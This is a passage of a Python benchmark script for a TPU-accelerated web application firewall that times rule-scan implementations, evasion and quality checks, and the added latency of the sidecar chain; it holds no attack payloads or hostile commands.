            # the benchmark times a fraction of the workload.  The match
            # carry per bucket keeps each iteration data-dependent on the
            # previous one (no loop-invariant hoisting).
            def body(i, carry):
                acc, states = carry
                out = []
                matches = []
                for (tok, lens, rreq, rsv), (state, match) in zip(
                        bufs, states):
                    if impl == "pallas":
                        match, state = scanner(tok, lens, state=state,
                                               match=match)
                    elif impl == "pallas2":
                        # pair-kernel contract: sticky match chains; the
                        # dead-class-padded state is not a byte carry
                        match, state = scanner2(tok, lens, match=match)
                    elif impl == "pallas3":
                        # raw-byte fused kernel (ISSUE 13): uint8 in,
                        # byte→reach mapping + padding on-device
                        match, state = scanner3(tok, lens, match=match)
                    elif impl == "pair":
                        # pair path contract: state=None (request scans
                        # consume only the sticky match, which we chain)
                        match, state = scan_pairs(
                            tabs.scan, tok, lens, None, match)
                    else:
                        match, state = scan_bytes(
                            tabs.scan, tok, lens, state, match)
                    out.append((state, match))
                    matches.append(match)
                    acc = acc + match.sum()
                rule_hits = fused_map_fold(tabs, matches, bufs, n_req)
                acc = acc + rule_hits.sum().astype(jnp.uint32)
                return (acc, tuple(out))

            states = tuple(
                (jnp.zeros((b[0].shape[0], W), jnp.uint32),
                 jnp.zeros((b[0].shape[0], W), jnp.uint32))
                for b in bufs)
            acc, _ = jax.lax.fori_loop(
                0, k, body, (jnp.zeros((), jnp.uint32), states))
            return acc

        return detect_k

    log("backend: %s, devices: %s" % (jax.default_backend(), jax.devices()))
    global _HEADLINE
    # measured-winner-first ordering (pair won r01-r03 on BOTH platforms):
    # if the watchdog fires mid-loop the stashed best-so-far is already
    # the likely champion, not the warm-up act
    # pallas3 joins the default bake-off on TPU platforms (compiled
    # kernel); on CPU its lowering is the pair program, so the default
    # CPU loop skips the duplicate measurement — the `kernel` block
    # (microbench --scan) carries the CPU A/B, and an explicit
    # --impl=pallas3 still measures it here
    impls = (["pair"]
             + (["pallas3"] if scanner3 is not None
                and platform != "cpu" else [])
             + (["pallas2"] if scanner2 is not None else [])
             + (["pallas"] if scanner is not None else [])
             + ["take"])
    only = [a.split("=", 1)[1] for a in sys.argv if a.startswith("--impl=")]
    if only:
        bad = [i for i in only
               if i not in ("take", "pair", "pallas", "pallas2",
                            "pallas3")]
        if bad:
            raise SystemExit("unknown --impl value(s) %s (choose from "
                             "take/pair/pallas/pallas2/pallas3)" % bad)
        impls = only
    impl_stats: dict = {}
    best_impl, best_rps = None, -1.0
    for impl in impls:
        try:
            detect_k = make_detect_k(impl)

            def timed(k: int) -> float:
                return best_time(
                    lambda kk, rep: detect_k(kk, tables, device_buckets),
                    k, n=3)

            d_lo = timed(1)
            # size K against the time actually left: timed(k) costs about
            # 4*(overhead + k*marginal) (warm + best-of-3), and later
            # impls plus the latency/quality legs still need room — spend
            # at most ~30% of the remaining budget here.  d_lo is an
            # OVERESTIMATE of the marginal cost (it includes dispatch/RTT
            # overhead), safe for the initial sizing only; the widening
            # guard below must use the measured marginal or a
            # tunnel-dominated d_lo (~70ms RTT, ~0.5ms compute) blocks
            # widening 100x too early
            pb_est = max(d_lo, 1e-4)
            share = max(15.0, _budget_left() * 0.30)
            it = max(2, min(iters, int(share / (4 * pb_est))))
            d_hi = timed(it)
            d_hi, it = _widen_k(timed, d_lo, d_hi, it, impl,
                                budget_frac=0.5)
            delta = d_hi - d_lo
            if delta <= 0.05:
                # RTT jitter swamps the compute delta (microbench
                # k_diff_time contract: <=0 delta is NO SIGNAL, never a
                # throughput) — record nothing rather than noise
                impl_stats[impl] = 0.0
                log("[%s] no signal (delta %.1f ms at K=%d, budget-"
                    "bounded); skipping" % (impl, delta * 1e3, it))
                continue
            if delta < 0.2:
                log("[%s] WARNING: thin signal (delta %.1f ms at K=%d); "
                    "number is noisier than usual" % (impl, delta * 1e3, it))
            per_batch = delta / (it - 1)
            rps = n_req / per_batch
            mbs = total_bytes / per_batch / 1e6
            impl_stats[impl] = round(rps, 1)
            log("[%s] per-batch %.2f ms -> %.0f req/s/chip, %.0f MB/s "
                "scanned" % (impl, per_batch * 1e3, rps, mbs))
        except Exception as e:
            impl_stats[impl] = 0.0
            log("[%s] failed (non-fatal): %r" % (impl, e))
            continue
        if rps > best_rps:
            best_impl, best_rps = impl, rps
            # stash best-so-far so the watchdog emits a REAL number even
            # if a later impl's compile overruns the deadline
            result = {
                "metric": "req/s/chip, full CRS-v3-shaped ruleset "
                          "(%s detect step, %d-req corpus, scan_impl=%s)"
                          % (platform, n_req, impl),
                "value": round(rps, 1),
                "unit": "req/s/chip",
                "vs_baseline": round(rps / 100_000.0, 4),
                "platform": platform,
                "probe": probe_block,
                "scan_impl": impl,
                "impls": impl_stats,
                # cross-round auditability: r04 grew the pack 1405 -> 2002
                # rules (343 -> 533 scan words), so CPU-fallback numbers
                # are not comparable to r03's without these
                "ruleset": {"rules": int(cr.n_rules),
                            "factors": int(cr.tables.n_factors),
                            "words": int(cr.tables.n_words)},
            }
            if backend_err:
                result["error"] = backend_err
            _HEADLINE = result
    if _HEADLINE is None:
        raise RuntimeError("every scan impl failed: %s" % impl_stats)
    result = _HEADLINE
    result["impls"] = impl_stats
    log("scan impl winner: %s (%s)" % (best_impl, impl_stats))

    # fixed-pack leg (VERDICT r04 item #3): the SAME throughput
    # measurement on the frozen r03 pack, always scan_impl=pair (the
    # r01-r04 winner on both platforms) so the number is comparable
    # round over round — this is what separates "the code got slower"
    # from "the pack got bigger".  Never fatal; headline already stashed.
    try:
        if _budget_left() < 75:
            log("fixed-pack leg skipped: %.0fs budget left" % _budget_left())
        else:
            t0f = time.time()
            cr_fix = load_fixed_pack()
            log("fixed pack: %d rules, %d factors, %d words (compiled "
                "in %.1fs)" % (cr_fix.n_rules, cr_fix.tables.n_factors,
                               cr_fix.tables.n_words, time.time() - t0f))
            pipe_fix = DetectionPipeline(cr_fix)
            rows_f = rows_for_requests(requests,
                                       needed_sv=pipe_fix.needed_sv)
            dlist, rlist, svlist = merge_rows(rows_f)
            tables_f = EngineTables.from_ruleset(cr_fix)
            bufs_f = build_device_buckets(cr_fix, dlist, rlist, svlist)
            dk_fix = make_detect_k("pair")

            def timed_f(k: int) -> float:
                return best_time(
                    lambda kk, rep: dk_fix(kk, tables_f, bufs_f), k, n=3)

            f_lo = timed_f(1)
            share = max(10.0, _budget_left() * 0.20)
            itf = max(2, min(iters, int(share / (4 * max(f_lo, 1e-4)))))
            f_hi = timed_f(itf)
            # same widening as the live leg (shared helper): on the
            # tunnel platform f_lo is RTT-dominated and the initial K
            # sizing caps 100x too early, parking the delta under the
            # no-signal threshold on exactly the platform rounds this
            # leg exists to anchor (review finding)
            f_hi, itf = _widen_k(timed_f, f_lo, f_hi, itf, "fixed-pack",
                                 budget_frac=0.4)
            f_delta = f_hi - f_lo
            if f_delta > 0.05:
                f_per_batch = f_delta / (itf - 1)
                f_rps = n_req / f_per_batch
                fixed = {
                    "pack": "bench_fixtures/pack_r03 (frozen r03 "
                            "ruleset: conf tree + r03 sigpack generator)",
                    "rules": int(cr_fix.n_rules),
                    "words": int(cr_fix.tables.n_words),
                    "scan_impl": "pair",
                    "req_per_s": round(f_rps, 1),
                    "platform": platform,
                    "r03_reference": R03_REFERENCE,
                }
                # pair-vs-pair only: comparing the fixed pack's pair
                # rate against another impl's live rate would conflate
                # impl choice with pack size (review finding)
                cur_pair = impl_stats.get("pair")
                if platform == "cpu" and cur_pair:
                    fixed["attribution"] = (
                        "frozen 1405-rule r03 pack on current code: %.0f "
                        "req/s vs r03's measured %.0f -> code delta "
                        "%.2fx; current %d-rule pack: %.0f req/s -> "
                        "pack-size delta %.2fx; the r03->r04 CPU "
                        "regression decomposes into exactly these two "
                        "factors"
                        % (f_rps, R03_REFERENCE["req_per_s"],
                           f_rps / R03_REFERENCE["req_per_s"],
                           cr.n_rules, cur_pair, f_rps / cur_pair))
                result["fixed_pack"] = fixed
                _HEADLINE = dict(result)
                log("fixed-pack (1405 rules, pair): %.2f ms/batch -> "
                    "%.0f req/s%s" % (f_per_batch * 1e3, f_rps,
                                      "; " + fixed.get("attribution", "")))
            else:
                log("fixed-pack leg: no signal (delta %.1f ms at K=%d)"
                    % (f_delta * 1e3, itf))
    except Exception as e:
        log("fixed-pack leg failed (non-fatal): %r" % (e,))

    # pack-scale leg (ISSUE 6): req/s vs synthetic pack size, the
    # sublinearity gate for the pack-size-invariant scan kernel.  Runs
    # inline only when the watchdog budget clearly allows; the
    # standalone `python bench.py --pack-scale` mode always runs it and
    # writes reports/PACKSCALE.json.
    try:
        if _budget_left() > 300:
            ps = run_pack_scale()
            result["pack_scale"] = {
                "scale_2x": ps.get("scale_2x"),
                "points": [{k: p[k] for k in
                            ("scale", "rules", "words", "req_per_s")}
                           for p in ps.get("points", [])],
                "artifact": "reports/PACKSCALE.json",
            }
            _HEADLINE = dict(result)
        else:
            log("pack-scale leg skipped inline (%.0fs budget left); "
                "run `python bench.py --pack-scale` for the full curve "
                "(reports/PACKSCALE.json carries the last run)"
                % _budget_left())
    except Exception as e:
        log("pack-scale leg failed (non-fatal): %r" % (e,))

    # kernel microbench leg (ISSUE 13): the raw-byte fused device path
    # vs the XLA lax.scan lowering at the dominant bucket tiers, plus
    # the Mosaic-interpreter parity verdict — recorded as the `kernel`
    # block.  A fused path LOSING to the baseline lowering is a
    # regression in the hand-scheduled kernel and is warned about
    # LOUDLY, never silently recorded.
    try:
        if _budget_left() > 150:
            from ingress_plus_tpu.utils.microbench import bench_scan_modes

            kb = bench_scan_modes(tables=tables.scan, iters=9)
            result["kernel"] = kb
            shapes = kb.get("shapes", [])
            losing = [s for s in shapes
                      if s.get("fused_vs_xla_scan") is not None
                      and s["fused_vs_xla_scan"] < 1.0]
            unmeasured = [s for s in shapes
                          if s.get("fused_vs_xla_scan") is None]
            if losing:
                log("=" * 64)
                log("KERNEL WARNING: the Pallas fused path LOSES to "
                    "the XLA lax.scan lowering at %s — a regression "
                    "in the hand-scheduled kernel (lowering: %s); "
                    "pick the scan impl by measurement, not by hope."
                    % ([(s["B"], s["L"]) for s in losing],
                       kb.get("fused_lowering")))
                log("=" * 64)
            elif unmeasured:
                # a timing failure is a broken MEASUREMENT, not a
                # kernel regression — do not send the triage hunting
                # a nonexistent kernel bug (review catch)
                log("KERNEL WARNING: no timing signal at %s (K-diff "
                    "<= 0, jitter > compute) — the fused-vs-lax.scan "
                    "comparison is UNMEASURED at those shapes this "
                    "round" % [(s["B"], s["L"]) for s in unmeasured])
            else:
                log("kernel: fused raw-byte path beats the lax.scan "
                    "lowering at every dominant shape (%s)"
                    % ", ".join("%.2fx" % s["fused_vs_xla_scan"]
                                for s in kb.get("shapes", [])))
            par = kb.get("interpret_parity") or {}
            if not par.get("ok", True):
                log("=" * 64)
                log("KERNEL WARNING: Mosaic-interpreter parity "
                    "DIVERGED from the XLA reference — the kernel the "
                    "TPU would compile does not match the serving "
                    "math (devicegate should have caught this)")
                log("=" * 64)
            _HEADLINE = dict(result)
        else:
            log("kernel microbench skipped inline (%.0fs budget "
                "left); run `python -m ingress_plus_tpu.utils."
                "microbench --scan` for the A/B" % _budget_left())
    except Exception as e:
        log("kernel microbench failed (non-fatal): %r" % (e,))

    # retune leg (ISSUE 15): profile-guided pack retuning A/B — static
    # vs profile-priced pack crossed with the cross-cycle verdict cache,
    # recorded as the `retune` block (same shape as the kernel block).
    # The profile-priced pack LOSING to the static pricing on the mixed
    # corpus means the telemetry→compiler loop is feeding the pricer
    # garbage — warned about LOUDLY, never silently recorded.
    try:
        if _budget_left() > 240:
            from ingress_plus_tpu.utils.microbench import bench_retune

            # 1024-request replay minimum: a 512-request profile's
            # candidate-rate estimates are noisy enough to misprice the
            # re-tiering (measured: the retuned pack LOST 0.84x at 512,
            # won 1.03x/1.47x at 1024 on the same rules).
            rb = bench_retune(n_req=1024, iters=3)
            result["retune"] = rb
            mixed = rb.get("mixed/retuned/nocache", {})
            floodc = rb.get("flood/retuned/cache", {})
            if mixed.get("speedup_vs_static", 1.0) < 1.0:
                log("=" * 64)
                log("RETUNE WARNING: the profile-priced pack LOSES to "
                    "static pricing on the mixed corpus (%.3fx) — the "
                    "measured profile is mispricing the reduction "
                    "(profile %s); audit /rules/stats?format=profile "
                    "before feeding it to tools/retune.py"
                    % (mixed.get("speedup_vs_static", 0.0),
                       rb.get("profile_hash")))
                log("=" * 64)
            else:
                log("retune: profile-priced pack %.2fx on mixed, "
                    "%.2fx with verdict cache on flood (profile %s)"
                    % (mixed.get("speedup_vs_static", 0.0),
                       floodc.get("speedup_vs_static", 0.0),
                       rb.get("profile_hash")))
            _HEADLINE = dict(result)
        else:
            log("retune leg skipped inline (%.0fs budget left); run "
                "`python -m ingress_plus_tpu.utils.microbench --retune` "
                "for the A/B" % _budget_left())
    except Exception as e:
        log("retune leg failed (non-fatal): %r" % (e,))

    # mesh-scale leg (ISSUE 7): aggregate serve-plane req/s across
    # 1/2/4/8 simulated devices — the measured multichip trajectory.
    # Inline only with clear budget headroom (each point is a fresh
    # subprocess that recompiles the pack); the standalone
    # `python bench.py --mesh-scale` mode always runs the full curve.
    try:
        if _budget_left() > 330:
            ms = run_mesh_scale()
            result["mesh_scale"] = {
                "scaling": ms.get("scaling"),
                "efficiency_8dev": ms.get("efficiency_8dev"),
                "host_cpus": ms.get("host_cpus"),
                "confirm_share_widest": ms.get("confirm_share_widest"),
                "points": [{kk: p.get(kk) for kk in
                            ("n_lanes", "req_per_s_mesh",
                             "serve_time_recompiles", "confirm_share")}
                           for p in ms.get("points", [])],
                "artifact": "reports/MESHSCALE.json",
            }
            _HEADLINE = dict(result)
        else:
            log("mesh-scale leg skipped inline (%.0fs budget left); "
                "run `python bench.py --mesh-scale` for the curve "
                "(reports/MESHSCALE.json carries the last run)"
                % _budget_left())
    except Exception as e:
        log("mesh-scale leg failed (non-fatal): %r" % (e,))

    # per-bucket MB/s diagnostics (stderr only; never fatal)
    try:
        k_diag = 33

        # buckets passed as jit args (same constant-folding hazard as
        # detect_k — see make_detect_k docstring)
        @functools.partial(jax.jit, static_argnames=("k",))
        def one_bucket_k(k, tabs, tok, lens, rreq, rsv):
            W = tabs.scan.n_words

            def body(i, carry):
                acc, state, match = carry
                rh, ch, sc, match, state = detect_rows(
                    tabs, tok, lens, rreq, rsv,
                    num_requests=n_req, state=state, match=match)
                return (acc + match.sum() + rh.sum().astype(jnp.uint32),
                        state, match)

            z = jnp.zeros((tok.shape[0], W), jnp.uint32)
            acc, _, _ = jax.lax.fori_loop(
                0, k, body, (jnp.zeros((), jnp.uint32), z, z))
            return acc

        for (tok, lens, rreq, rsv) in device_buckets:
            nrows, edge = tok.shape
            dt = k_diff_time(
                lambda k, rep: one_bucket_k(k, tables, tok, lens, rreq, rsv),
                k_diag)
            if dt <= 0:
                log("bucket %5dB x %4d rows: no signal (K-diff <= 0,"
                    " jitter > compute)" % (edge, nrows))
            else:
                log("bucket %5dB x %4d rows: %7.2f us/batch, %8.1f MB/s"
                    % (edge, nrows, dt * 1e6, nrows * edge / dt / 1e6))
    except Exception as e:
        log("per-bucket diagnostics failed (non-fatal): %r" % (e,))

    # small-batch on-device dispatch time (TPU only): K-diff timing of an
    # 8-row x 128B batch — the device-compute term of the host-local
    # added-latency decomposition.  K-chaining inside one dispatch
    # removes the ~70ms tunnel RTT, so this is what a deployed
    # host-local dispatch would spend on-chip per tiny batch.
    small_us = None
    if platform != "cpu":
        try:
            tok8 = jax.device_put(np.zeros((8, 128), np.int32))
            len8 = jax.device_put(np.full((8,), 128, np.int32))
            req8 = jax.device_put(np.arange(8, dtype=np.int32))
            sv8 = jax.device_put(np.ones((8, n_sv), np.int8))

            @functools.partial(jax.jit, static_argnames=("k",))
            def small_k(k, tabs, tok, lens, rreq, rsv):
                W = tabs.scan.n_words

                def body(i, carry):
                    acc, state, match = carry
                    rh, _, _, match, state = detect_rows(
                        tabs, tok, lens, rreq, rsv, num_requests=8,
                        state=state, match=match)
                    return (acc + match.sum()
                            + rh.sum().astype(jnp.uint32), state, match)

                z = jnp.zeros((8, W), jnp.uint32)
                acc, _, _ = jax.lax.fori_loop(
                    0, k, body, (jnp.zeros((), jnp.uint32), z, z))
                return acc

            dt = k_diff_time(
                lambda k, rep: small_k(k, tables, tok8, len8, req8, sv8),
                257)
            if dt > 0:
                small_us = dt * 1e6
                result["device_dispatch_small_batch_us"] = round(small_us, 1)
                _HEADLINE = dict(result)
                log("small-batch (8x128B) on-device dispatch: %.0f us"
                    % small_us)
        except Exception as e:
            log("small-batch timing failed (non-fatal): %r" % (e,))

    # quality cross-check on a sample (full pipeline incl. confirm, CPU)
    sample = corpus[:512]
    verdicts = pipeline.detect([lr.request for lr in sample])
    tp = sum(1 for lr, v in zip(sample, verdicts) if lr.is_attack and v.attack)
    fn = sum(1 for lr, v in zip(sample, verdicts) if lr.is_attack and not v.attack)
    fp = sum(1 for lr, v in zip(sample, verdicts) if not lr.is_attack and v.attack)
    log("quality sample (%d req): tp=%d fn=%d fp=%d"
        % (len(sample), tp, fn, fp))
    result["quality_sample"] = {"requests": len(sample), "tp": tp,
                                "fn": fn, "fp": fp}
    # learned-scorer quality leg (ISSUE 8, docs/LEARNED_SCORING.md):
    # per-family precision/recall + the fixed-vs-learned comparison at
    # the calibrated threshold — the ModSec-Learn claim as a measured
    # block in the driver artifact, never an assertion.  A deterministic
    # seeded retrain on the golden corpus, so the block reproduces.
    try:
        from ingress_plus_tpu.utils.evalf1 import evaluate as _f1_eval
        from ingress_plus_tpu.utils.export_corpus import (
            build_feature_dataset)
        from ingress_plus_tpu.learn.train import train_from_dataset

        t_sc = time.time()
        ds = build_feature_dataset(n=1024, seed=20260729,
                                   ruleset=pipeline.ruleset)
        head = train_from_dataset(ds)
        rep = _f1_eval(n=1024, batch=128, seed=20260729,
                       pipeline=pipeline, warm=False, scoring_head=head)
        result["scorer_quality"] = {
            "head_version": head.version,
            "threshold": round(float(head.threshold), 6),
            "per_family_precision": rep.per_family,
            "per_class_recall": rep.per_class_recall,
            "comparison": rep.scorer_comparison,
            "train_eval_s": round(time.time() - t_sc, 1),
        }
        cmpb = rep.scorer_comparison or {}
        log("scorer quality: fixed fp=%s learned fp=%s new_fn=%s "
            "(threshold %.3f)"
            % (cmpb.get("fixed", {}).get("fp"),
               cmpb.get("learned", {}).get("fp"),
               cmpb.get("new_fn_vs_fixed"), head.threshold))
        if cmpb.get("new_fn_vs_fixed", 0):
            log("WARNING: learned head LOST attacks the fixed weights "
                "caught — the zero-new-FN calibration did not hold on "
                "this corpus")
    except Exception as e:
        log("scorer quality leg failed (non-fatal): %r" % (e,))
    # the full adversarial eval (non-self-referential: public classic
    # payloads x encoding evasions + 10k benign requests) is pinned by
    # tests/test_quality.py and written to reports/QUALITY.json — embed
    # its summary so the driver artifact carries the quality story
    try:
        qpath = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                             "reports", "QUALITY.json")
        with open(qpath) as f:
            q = json.load(f)
        result["quality"] = {
            "evasion_detection_rate": q["evasion"]["detection_rate"],
            "evasion_total": q["evasion"]["total"],
            "benign_fp_rate": q["benign"]["fp_rate"],
            "benign_total": q["benign"]["total"],
            "method": q.get("method", ""),
            "artifact": "reports/QUALITY.json",
        }
        _HEADLINE = dict(result)
    except Exception as e:
        log("quality artifact embed failed (non-fatal): %r" % (e,))

    # evasion-closure leg (ISSUE 17, docs/ANALYSIS.md "Evasion
    # analysis"): the seeded mutation harness replays the golden corpus
    # re-encoded per evasion family through detect_cpu_only — per-family
    # retention lands in the driver artifact next to the quality story.
    # A smaller corpus than the evasiongate CI run (this is a bench leg,
    # not the gate); the gate's full numbers live in
    # reports/EVASION.json.
    try:
        from ingress_plus_tpu.utils.evasion import mutation_harness

        t_ev = time.time()
        ev = mutation_harness(pipeline, n=600, attack_fraction=0.4)
        result["evasion"] = {
            "min_retention": ev["min_retention"],
            "per_family_retention": {
                fam: st["retention"]
                for fam, st in ev["families"].items()},
            "base_detected": ev["corpus"]["base_detected"],
            "escapes": sum(st["escapes_total"]
                           for st in ev["families"].values()),
            "harness_s": round(time.time() - t_ev, 1),
            "artifact": "reports/EVASION.json",
        }
        log("evasion retention: min %.3f over %d families (%d escapes)"
            % (ev["min_retention"], len(ev["families"]),
               result["evasion"]["escapes"]))
        _HEADLINE = dict(result)
    except Exception as e:
        log("evasion leg failed (non-fatal): %r" % (e,))

    # added-latency leg (BASELINE.md north star row 2: <2ms p99 added):
    # C++ loadgen -> C++ sidecar -> in-process serve loop — the full
    # production boundary chain.  Never fatal; the throughput headline
    # above is already stashed.
    #
    # On this rig the TPU sits behind a ~70ms network tunnel, so the
    # live-TPU chain measures the tunnel, not the design (BENCH p99
    # would read 300ms+).  The DEFENSIBLE number vs the 2ms budget is
    # the host-local bound: the identical boundary chain with the scan
    # in-process (subprocess, JAX_PLATFORMS=cpu) — in deployment the
    # chip is host-local and the XLA dispatch it swaps in is sub-ms.
    # Both legs are reported, clearly labeled.
    try:
        lat = run_latency_leg(cr, result.get("scan_impl", "pair"), platform)
        if platform == "cpu":
            result.update(lat)
        elif lat:
            tun = dict(lat.get("latency_leg", {}))
            tun["p50_us"] = lat.get("added_latency_p50_us")
            tun["p99_us"] = lat.get("added_latency_p99_us")
            result["latency_leg_tunnel"] = tun
            if "rule_stats" in lat:
                result["rule_stats"] = lat["rule_stats"]
            for key in ("chain_overhead_p50_us", "chain_overhead_p99_us"):
                if key in lat:
                    result[key] = lat[key]
            # decomposed host-local estimate vs the 2ms budget: measured
            # boundary chain (mode-off frames, no pipeline) + full 0.5ms
            # batch window + measured on-device small-batch compute +
            # 200us host-local dispatch allowance.  Every term is
            # measured on THIS rig except the dispatch allowance; the
            # tunnel appears in none of them.
            c99 = lat.get("chain_overhead_p99_us")
            if c99 is not None and small_us is not None:
                est = c99 + 500.0 + small_us + 200.0
                result["added_latency_estimate_p99_us"] = round(est, 1)
                result["added_latency_estimate_terms"] = {
                    "chain_p99_us": c99, "batch_window_us": 500,
                    "device_small_batch_us": round(small_us, 1),
                    "dispatch_allowance_us": 200,
                    "vs_2ms_budget": round(est / 2000.0, 3),
                }
        _HEADLINE = dict(result)
    except Exception as e:
        log("latency leg failed (non-fatal): %r" % (e,))
    if platform != "cpu":
        try:
            import subprocess

            # env inherited as-is: latency_only_main forces CPU
            # in-process (force_cpu_devices), which wins over the env.
            # Do NOT set JAX_PLATFORMS=cpu here — with the axon PJRT
            # plugin registered by sitecustomize, the ENV-var path still
            # initializes the plugin during backend discovery and hangs
            # when the tunnel is down (observed r04).
            out = subprocess.run(
                [sys.executable, os.path.abspath(__file__),
                 "--latency-only"],
                capture_output=True, text=True, timeout=300)
            sys.stderr.write(out.stderr[-2000:])
            if out.returncode == 0 and out.stdout.strip():
                local = json.loads(out.stdout.strip().splitlines()[-1])
                leg = local.get("latency_leg", {})
                leg["note"] = (
                    "host-local deployable bound: identical "
                    "loadgen->sidecar->serve chain with the scan "
                    "in-process; in deployment the only substitution is "
                    "the host-local XLA device dispatch (no 70ms tunnel)")
                result.update(local)
                _HEADLINE = dict(result)
            else:
                log("local latency leg rc=%d (non-fatal)" % out.returncode)
        except Exception as e:
            log("local latency leg failed (non-fatal): %r" % (e,))
    if "rule_stats" not in result:
        # mirror the stage_breakdown contract: the absence of the
        # detection-efficiency block must be visible in the round log
        log("WARNING: BENCH json carries NO rule_stats block — "
            "per-family false-candidate rate and padding-waste ratio "
            "are unreported this round")
    return result


def scrape_stage_breakdown(serve) -> dict | None:
    """Serve-loop /metrics histograms → the BENCH json ``stage_breakdown``
    object: per-stage p50/p99 µs (queue/prep/scan/confirm/batch/e2e) plus
    a sum-check decomposing the serve-side end-to-end percentiles.

    Importable and runnable WITHOUT a running server (the tier-1 smoke
    test drives it on an in-process ServeLoop): ``serve`` is anything
    with a ``_metrics_text() -> str``.  Returns None when the histograms
    are missing or malformed — callers must treat that as a LOUD warning
    (ISSUE 1 satellite), never a silent absence."""
    from ingress_plus_tpu.utils.trace import stage_breakdown_from_metrics

    sb = stage_breakdown_from_metrics(serve._metrics_text())
    if not sb:
        return None
    out = {s: sb[s] for s in ("queue", "prep", "scan", "confirm",
                              "batch", "e2e") if s in sb}
    if not out:
        return None
    # decomposition check: queue+prep+scan+confirm should account for
    # the serve-side e2e percentiles within slack (stream work and queue
    # ops are the unattributed remainder)
    if "e2e" in out:
        check = {}
        for p in ("p50_us", "p99_us"):
            total = sum(out[s].get(p, 0.0)
                        for s in ("queue", "prep", "scan", "confirm")
                        if s in out)
            check["stage_sum_%s" % p] = round(total, 1)
            e2e = out["e2e"].get(p, 0.0)
            if e2e:
                check["stage_sum_over_e2e_%s" % p] = round(total / e2e, 3)
        out["sum_check"] = check
    return out


def run_latency_leg(cr, scan_impl: str, platform: str,
                    n_requests: int = 1024) -> dict:
    """p50/p99 verdict latency through loadgen -> sidecar -> serve loop.

    "Added latency" because the proxy (nginx module) waits exactly this
    round-trip before forwarding; everything else in the request path is
    untouched.  Measured at LOW concurrency (2 conns x 2 inflight) —
    the 2ms budget is per-request added cost at sane load, not the
    queueing delay of a saturated box (this rig is 1 vCPU; saturation
    p99 is the throughput leg's business).  On this rig a TPU verdict
    additionally crosses the ~70ms tunnel per dispatch, so the tpu
    number measures the tunnel, not the design — the note field says
    so; the CPU path is the deployable local bound.
    """
    import shutil
    import subprocess
    import tempfile
    import socket as socketmod

    repo = os.path.dirname(os.path.abspath(__file__))
    sidecar_dir = os.path.join(repo, "native", "sidecar")
    if shutil.which("g++") is None and not os.path.exists(
            os.path.join(sidecar_dir, "loadgen")):
        log("latency leg skipped: no g++/loadgen")
        return {}
    subprocess.run(["make", "-s", "-C", sidecar_dir],
                   capture_output=True, timeout=180, check=True)

    import asyncio

    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.batcher import Batcher
    from ingress_plus_tpu.serve.server import ServeLoop
    from ingress_plus_tpu.utils.export_corpus import export

    tmp = tempfile.mkdtemp(prefix="ipt_lat_")
    srv_sock = os.path.join(tmp, "srv.sock")
    side_sock = os.path.join(tmp, "side.sock")
    pipeline = DetectionPipeline(cr, mode="block", scan_impl=scan_impl)
    batcher = Batcher(pipeline)
    serve = ServeLoop(batcher, srv_sock)
    loop = asyncio.new_event_loop()

    def runner():
        asyncio.set_event_loop(loop)
        loop.run_until_complete(serve.start())
        loop.run_forever()

    t = threading.Thread(target=runner, daemon=True, name="ipt-lat-serve")
    t.start()

    def wait_sock(path, timeout_s=60):
        deadline = time.time() + timeout_s
        while time.time() < deadline:
            if os.path.exists(path):
                try:
                    s = socketmod.socket(socketmod.AF_UNIX)
                    s.connect(path)
                    s.close()
                    return True
                except OSError:
                    pass
            time.sleep(0.05)
        return False

    sidecar = None
    try:
        if not wait_sock(srv_sock):
            raise RuntimeError("serve loop socket never appeared")
        sidecar = subprocess.Popen(
            [os.path.join(sidecar_dir, "sidecar"), "--listen", side_sock,
             "--upstream", srv_sock, "--deadline-ms", "30000"],
            stderr=subprocess.DEVNULL)
        if not wait_sock(side_sock):
            raise RuntimeError("sidecar socket never appeared")
        corpus_path = os.path.join(tmp, "c.bin")
        export(corpus_path, n=512, seed=9, attack_fraction=0.2)
        loadgen = os.path.join(sidecar_dir, "loadgen")
        # warmup pass compiles the serving shapes (first-dispatch XLA
        # compile would otherwise land in p99); same concurrency profile
        # as the measurement so the same batch geometries are hit
        subprocess.run(
            [loadgen, "--socket", side_sock, "--corpus", corpus_path,
             "--connections", "2", "--inflight", "2",
             "--requests", "384"],
            capture_output=True, timeout=300)
        # the stage histograms must describe ONLY the measured pass —
        # drop the warmup's first-dispatch XLA compile observations.
        # The cumulative PipelineStats stage counters have no reset, so
        # baseline them here for the confirm_plane share (review catch:
        # lifetime totals would fold the warmup's compile wall into the
        # denominator and misstate the measured pass's confirm share)
        batcher.reset_latency_observations()
        _ps = batcher.pipeline.stats
        stage_base = (_ps.engine_us, _ps.confirm_us, _ps.prep_us,
                      _ps.confirm_memo_hits, _ps.confirm_memo_misses)
        out = subprocess.run(
            [loadgen, "--socket", side_sock, "--corpus", corpus_path,
             "--connections", "2", "--inflight", "2",
             "--requests", str(n_requests)],
            capture_output=True, text=True, timeout=300)
        if out.returncode != 0:
            raise RuntimeError("loadgen rc=%d: %s"
                               % (out.returncode, out.stderr[-300:]))
        r = json.loads(out.stdout)
        log("latency leg: p50=%dus p99=%dus rps=%.0f fail_open=%d (%s)"
            % (r["p50_us"], r["p99_us"], r["rps"], r["fail_open"],
               "loadgen->sidecar->serve"))
        lat = {
            "added_latency_p50_us": r["p50_us"],
            "added_latency_p99_us": r["p99_us"],
            "latency_leg": {
                "path": "loadgen->sidecar->serve(%s)" % platform,
                # per-leg backend tag (ISSUE 13 satellite)
                "platform": platform,
                "scan_impl": scan_impl,
                "requests": r["requests"], "rps": r["rps"],
                "p90_us": r["p90_us"], "p999_us": r["p999_us"],
                "fail_open": r["fail_open"],
                "vs_2ms_budget": round(r["p99_us"] / 2000.0, 3),
            },
        }
        # chain-overhead pass: the SAME boundary chain with mode-off
        # frames (serve loop answers without touching the pipeline) —
        # isolates framing/IPC/event-loop cost from scan compute, the
        # first term of the host-local added-latency decomposition
        try:
            off_path = os.path.join(tmp, "c_off.bin")
            export(off_path, n=512, seed=9, attack_fraction=0.2, mode=0)
            out2 = subprocess.run(
                [loadgen, "--socket", side_sock, "--corpus", off_path,
                 "--connections", "2", "--inflight", "2",
                 "--requests", str(n_requests)],
                capture_output=True, text=True, timeout=120)
            if out2.returncode == 0:
                c = json.loads(out2.stdout)
                log("chain overhead (mode off): p50=%dus p99=%dus"
                    % (c["p50_us"], c["p99_us"]))
                lat["chain_overhead_p50_us"] = c["p50_us"]
                lat["chain_overhead_p99_us"] = c["p99_us"]
        except Exception as e:
